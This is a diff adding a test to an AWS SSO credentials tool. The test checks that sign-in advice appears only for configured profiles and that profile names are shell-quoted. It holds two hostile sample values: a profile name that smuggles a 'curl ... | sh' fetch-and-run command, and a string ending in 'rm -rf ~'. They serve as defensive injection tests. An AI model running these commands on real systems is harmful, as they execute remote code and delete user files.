@@ -5,6 +5,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { AwsAccount, defaultRegions, listProfiles } from '../../../src/sources/aws/accounts';
 import { LiveSource } from '../../../src/sources/aws/live-source';
+import { SSO_LOGIN_COMMAND, ssoLoginCommand } from '../../../src/sources/aws/sso-login';
 import { startRig, syntheticEvents, TEST_ACCOUNT, TEST_SECRET } from './helpers';
 
 function withFiles(config: string, credentials: string): { dir: string; files: { configFilepath: string; filepath: string } } {
@@ -82,6 +83,35 @@ test('a missing or expired SSO session names the exact aws sso login command', a
     // A role assumed from the SSO session: sign in with the SSO profile at the root of the chain.
     const chained = new AwsAccount({ profile: 'forensics', endpoint: 'http://127.0.0.1:9', ...files });
     await assert.rejects(chained.accountId(), /profile "forensics" is missing or expired\. Sign in with: aws sso login --profile responder$/);
+  } finally {
+    for (const [name, value] of Object.entries(saved)) {
+      if (value === undefined) delete process.env[name];
+      else process.env[name] = value;
+    }
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test('sign-in advice names only a configured SSO profile, as one shell word the Copy button copies whole', async () => {
+  const odd = 'ir:corp/2%';
+  const config = `${CONFIG}\n[profile ${odd}]\nsso_session = corp\nsso_account_id = ${TEST_ACCOUNT}\nsso_role_name = IncidentResponder\n`;
+  const { dir, files } = withFiles(config, CREDENTIALS);
+  const saved = { HOME: process.env.HOME, AWS_CONFIG_FILE: process.env.AWS_CONFIG_FILE };
+  process.env.HOME = dir;
+  process.env.AWS_CONFIG_FILE = files.configFilepath;
+  const failure = async (profile: string): Promise<string> => {
+    const account = new AwsAccount({ profile, endpoint: 'http://127.0.0.1:9', ...files });
+    return account.accountId().then(() => assert.fail('credentials were found'), (error: Error) => error.message);
+  };
+  try {
+    // A shared notebook or case names the profile: a name that is no profile here gets no command to run.
+    const hostile = 'sso;curl${IFS}-s${IFS}http://198.51.100.9/x|sh;#';
+    const message = await failure(hostile);
+    assert.doesNotMatch(message, /aws sso login|Sign in with/);
+    assert.match(message, /Could not get AWS credentials for profile "sso;curl/);
+    const quoted = await failure(odd);
+    assert.equal(SSO_LOGIN_COMMAND.exec(quoted)?.[0], "aws sso login --profile 'ir:corp/2%'");
+    assert.equal(SSO_LOGIN_COMMAND.exec(`${ssoLoginCommand("it's")}; rm -rf ~`)?.[0], "aws sso login --profile 'it'\\''s'");
   } finally {
     for (const [name, value] of Object.entries(saved)) {
       if (value === undefined) delete process.env[name];
